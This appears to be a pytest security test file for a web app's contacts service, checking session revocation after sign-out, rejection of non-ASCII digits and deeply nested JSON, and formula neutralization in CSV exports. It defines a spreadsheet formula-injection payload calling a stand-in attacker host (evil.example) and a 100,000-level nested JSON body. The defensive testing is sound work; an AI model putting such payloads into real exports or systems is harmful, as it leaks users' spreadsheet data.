"""Hostile inputs aimed at one weakness each: a copied session cookie after sign-out, digits
that are not ASCII, JSON nested past any sane depth, spreadsheet formulas in exported CSV.

Cases marked xfail belong to a change being made elsewhere (the item is named); strict, so the
mark is noticed and dropped once that change has merged.
"""

from __future__ import annotations

import csv
import io

import pytest

from server.contacts import service as contacts
from server.extensions import db
from server.privacy import data_requests
from tests.security import world as worlds

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'


def test_a_copied_session_cookie_is_dead_after_sign_out(app, world, visitor):
    """Someone who copied the cookie before the owner signed out gets nothing with it."""
    app.config["WTF_CSRF_ENABLED"] = False  # the sign-out form's token is not the point here
    client, _ = visitor(world.admin)
    copied = client.get_cookie("session").value
    assert client.post("/auth/logout").status_code == 302
    thief = app.test_client()
    thief.set_cookie("session", copied)
    assert thief.get("/admin/settings").status_code in (302, 401, 403)


@pytest.mark.parametrize("value", ["\u00b2", "\u2460"])
def test_digits_int_cannot_read_are_a_bad_request(app, world, visitor, value):
    """`str.isdigit` takes superscripts and circled digits, `int` does not."""
    app.config["PROPAGATE_EXCEPTIONS"] = False
    client, headers = visitor(world.rep)
    for path in ("/api/v1/contacts", "/api/v1/activity"):
        assert client.get(path, query_string={"limit": value}, headers=headers).status_code == 400


def test_json_nested_past_any_sane_depth_is_a_bad_request(app, world, visitor):
    """A body of 100,000 nested arrays: refused as malformed, no recursion error."""
    app.config["PROPAGATE_EXCEPTIONS"] = False
    client, headers = visitor(world.rep)
    body = '{"subject": ' + "[" * 100_000 + "]" * 100_000 + ', "recipients": []}'
    headers |= {"Content-Type": "application/json"}
    assert client.post("/api/v1/messages", data=body, headers=headers).status_code == 400


def test_exported_csv_never_carries_a_formula_contacts(app, world, visitor):
    """The contacts exports (pages and API, plain and HubSpot's) neutralize a formula in a
    contact's name."""
    _name_the_contact(world, FORMULA)
    client, headers = visitor(world.victim_admin)
    paths = ("/admin/contacts.csv", "/api/v1/contacts/export", "/admin/contacts.hubspot.csv",
             "/api/v1/contacts/export/hubspot")  # fmt: skip
    for path in paths:
        _assert_no_formula(client.get(path, headers=headers).get_data(as_text=True), path)


def test_exported_csv_never_carries_a_formula_data_request(app, world):
    """A data-subject export's CSV neutralizes a formula in the person's data."""
    _name_the_contact(world, FORMULA)
    secret = app.config["SECRET_KEY"]
    run = data_requests.export(db.session, secret, world.victim_admin, worlds.CONTACT)
    db.session.flush()
    data_requests.write_export(db.session, run)  # what the worker does with the run
    _assert_no_formula(run.files["csv"], "the data-subject export")


def _name_the_contact(world, name: str) -> None:
    """Give the victim's contact `name`, as an edit on the pages would."""
    contact = contacts.find_contact(db.session, world.victim_admin.account_id, worlds.CONTACT)
    contacts.update_contact(db.session, contact, {"name": name})
    db.session.commit()


def _assert_no_formula(text: str, where: str) -> None:
    """No cell starts with a character a spreadsheet reads as the start of a formula."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells), f"{where} carries the name"
    starts = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not starts, f"{where}: {starts}"
